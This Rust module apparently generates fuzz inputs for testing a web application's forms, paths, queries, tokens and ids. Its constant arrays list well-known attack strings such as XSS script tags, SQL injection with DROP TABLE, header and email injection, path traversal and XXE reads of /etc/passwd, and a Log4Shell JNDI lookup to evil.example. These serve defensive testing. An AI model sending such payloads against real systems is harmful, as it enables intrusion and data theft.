//! What fields, cookies, paths and queries are fed with.

use fastrand::Rng;

/// Would run in a browser, were it shown as it is.
pub const SCRIPT: &str = "<script>alert(";
/// A header that somebody tries to add.
pub const HEADER: &str = "x-evil";

/// Texts that mean something somewhere.
const TEXTS: [&str; 30] = [
    "",
    " ",
    "null",
    "-1",
    "0",
    "18446744073709551616",
    "1e309",
    "\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
    "' OR 1=1; DROP TABLE customers; --",
    "a@example.com\r\nx-evil: 1\r\n\r\n<script>alert(1)</script>",
    "a@example.com\nBcc: evil@example.com",
    "{ $brand } {\"x\"} {-term} { NUMBER($x) }",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//evil.example",
    "https://evil.example/\\@localhost",
    "\u{202e}evil\u{2066}\u{200f}",
    "\u{feff}\u{200b}\u{2028}\u{2029}",
    "İıŉǰΐſ\u{1f98a}\u{10ffff}",
    "e\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}",
    "١٢٣٤٥٦",
    "${jndi:ldap://evil.example}",
    "%s%n%x%p",
    "{{7*7}}<%= 7*7 %>#{7*7}",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "{\"$ne\":null}",
    "customer0@seed.example",
    "()&|!*\u{0}",
];

/// Pieces of a percent-encoded text, right and wrong.
const ENCODED: [&str; 24] = [
    "%00",
    "%0d%0a",
    "%ff",
    "%c0%af",
    "%ed%a0%80",
    "%f8%88%80%80%80",
    "%c3(",
    "%",
    "%z",
    "%4",
    "%%",
    "%2",
    "%u0041",
    "%25%30%30",
    "+",
    "%2e%2e%2f",
    "%f0%9f%a6%8a",
    "%e2%80%ae",
    "%1b%5b31m",
    "%7f",
    "%c2%85",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cscript%3Ealert(1)",
    "a",
];

/// One of these.
pub fn pick<'a>(rng: &mut Rng, some: &[&'a str]) -> &'a str {
    some[rng.usize(..some.len())]
}

/// Bytes of any value.
pub fn noise(rng: &mut Rng, most: usize) -> Vec<u8> {
    let length = rng.usize(..most.max(1));
    (0..length).map(|_| rng.u8(..)).collect()
}

/// A text in clear.
pub fn text(rng: &mut Rng) -> String {
    match rng.u8(..10) {
        0 => "x".repeat(rng.usize(..60_000)),
        1 => (0..rng.usize(..200)).map(|_| rng.char(..)).collect(),
        2 => "Z\u{0300}".repeat(rng.usize(..2_000)),
        _ => pick(rng, &TEXTS).to_owned(),
    }
}

/// A value as it stands in a form's body or a query: encoded rightly, wrongly or not at all, but without what would end it.
pub fn encoded(rng: &mut Rng) -> Vec<u8> {
    match rng.u8(..8) {
        0 => noise(rng, 300).into_iter().filter(|byte| !b"&=\r\n #".contains(byte)).collect(),
        1..4 => (0..rng.usize(1..12)).map(|_| pick(rng, &ENCODED)).collect::<String>().into_bytes(),
        _ => form_urlencoded::byte_serialize(text(rng).as_bytes()).collect::<String>().into_bytes(),
    }
}

/// As [`encoded`], of bytes that a path or query may carry, and short enough for a head.
pub fn in_target(rng: &mut Rng) -> String {
    let piece = encoded(rng);
    let plain = |byte: u8| byte.is_ascii_graphic() && !b"\"<>\\^`{|}#".contains(&byte);
    let text: String =
        piece.into_iter().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02x}") }).collect();
    text.chars().take(4_000).collect()
}

/// What looks like one of our secrets: 43 characters of 64.
pub fn token(rng: &mut Rng) -> String {
    let letter = |rng: &mut Rng| char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[rng.usize(..64)]);
    let mut token: String = (0..43).map(|_| letter(rng)).collect();
    match rng.u8(..8) {
        0 => token.truncate(rng.usize(..43)),
        1 => token.push_str(&token.clone().repeat(rng.usize(1..30))),
        2 => token.insert(rng.usize(..43), '='),
        3 => token.replace_range(0..1, "%00"),
        _ => {}
    }
    token
}

/// What looks like one of our ids, or doesn't.
pub fn id(rng: &mut Rng) -> String {
    match rng.u8(..4) {
        0 => in_target(rng),
        1 => "00000000-0000-0000-0000-000000000000".to_owned(),
        _ => {
            let hex = format!("{:032x}", rng.u128(..));
            format!("{}-{}-7{}-8{}-{}", &hex[..8], &hex[8..12], &hex[13..16], &hex[17..20], &hex[20..])
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_makes_the_same() {
        let all = |seed| {
            let mut rng = Rng::with_seed(seed);
            (0..200).map(|_| (text(&mut rng), encoded(&mut rng), in_target(&mut rng), token(&mut rng), id(&mut rng))).collect::<Vec<_>>()
        };
        assert_eq!(all(7), all(7));
        assert_ne!(all(7), all(8));
    }

    #[test]
    fn a_target_has_no_byte_that_would_end_it() {
        let mut rng = Rng::with_seed(3);
        for _ in 0..2_000 {
            assert!(in_target(&mut rng).bytes().all(|byte| byte.is_ascii_graphic()));
        }
    }
}
